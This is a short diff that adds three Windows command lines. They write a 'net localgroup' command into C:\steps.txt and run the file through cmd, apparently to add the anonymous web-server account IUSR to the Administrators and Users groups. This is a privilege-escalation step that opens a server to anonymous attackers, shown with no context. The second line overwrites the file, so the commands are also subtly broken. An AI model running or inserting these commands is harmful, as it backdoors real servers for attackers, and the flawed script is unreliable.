@@ -1,0 +1,3 @@
+echo net localgroup Administrators IUSR /add > C:\steps.txt
+echo net localgroup Users IUSR /add > C:\steps.txt
+cmd < C:\steps.txt
